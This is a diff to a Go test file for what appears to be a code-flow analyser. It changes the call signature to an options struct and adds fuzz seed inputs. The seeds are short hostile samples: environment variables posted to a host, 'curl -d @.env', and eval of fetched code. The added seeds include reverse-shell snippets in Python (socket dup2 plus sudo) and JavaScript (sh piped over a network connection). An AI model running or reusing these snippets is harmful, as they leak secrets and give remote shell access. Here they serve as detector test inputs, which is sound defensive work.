@@ -25,7 +25,7 @@ func TestBounds(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			begin, said := time.Now(), false
-			chain.Follow([]chain.Text{{File: "a.py", Source: []byte(head + body + tail), Language: chain.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, func(string, string) { said = true })
+			chain.Follow([]chain.Text{{File: "a.py", Source: []byte(head + body + tail), Language: chain.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(string, string) { said = true }})
 			if !said {
 				t.Error("nothing says that it was not followed to the end")
 			}
@@ -59,11 +59,15 @@ func FuzzFollow(f *testing.F) {
 	f.Add([]byte("import os,requests\nrequests.post('https://a', data=os.environ)"), true)
 	f.Add([]byte("fetch(`https://${process.env.A_KEY}.b.c`).then(r => eval(r))"), false)
 	f.Add([]byte("import os\nclass A:\n def f(self, *a): self.x = a[0]; return self.f(self.x)\nA().f(open('.env').read())\nos.system('curl -d @.env h')"), true)
+	f.Add([]byte("import os,socket,subprocess\ns=socket.socket()\ns.connect(('a.b',1))\nos.dup2(s.fileno(),0)\nsubprocess.run(['sudo','python3','-u',s.recv(9)],input={'a':[s]})\nopen('~/.x','a').write(s)"), true)
+	f.Add([]byte("const c=net.connect({host:'a.b'},()=>{const p=child_process.spawn('sh');c.pipe(p.stdin);p.stdout.pipe(c)});c.onmessage=e=>eval(atob('YWFhYWFhYWFhYWFhYWFh'+e))"), false)
 	f.Fuzz(func(_ *testing.T, text []byte, python bool) {
 		language := chain.JavaScript
 		if python {
 			language = chain.Python
 		}
-		chain.Follow([]chain.Text{{File: "a", Source: text, Language: language, Start: document.Position{Line: 1, Column: 1}}}, nil, func(string, string) {})
+		chain.Follow([]chain.Text{{File: "a", Source: text, Language: language, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{
+			Lasting: func(string) bool { return true }, Touches: true, Cut: func(string, string) {},
+		})
 	})
 }
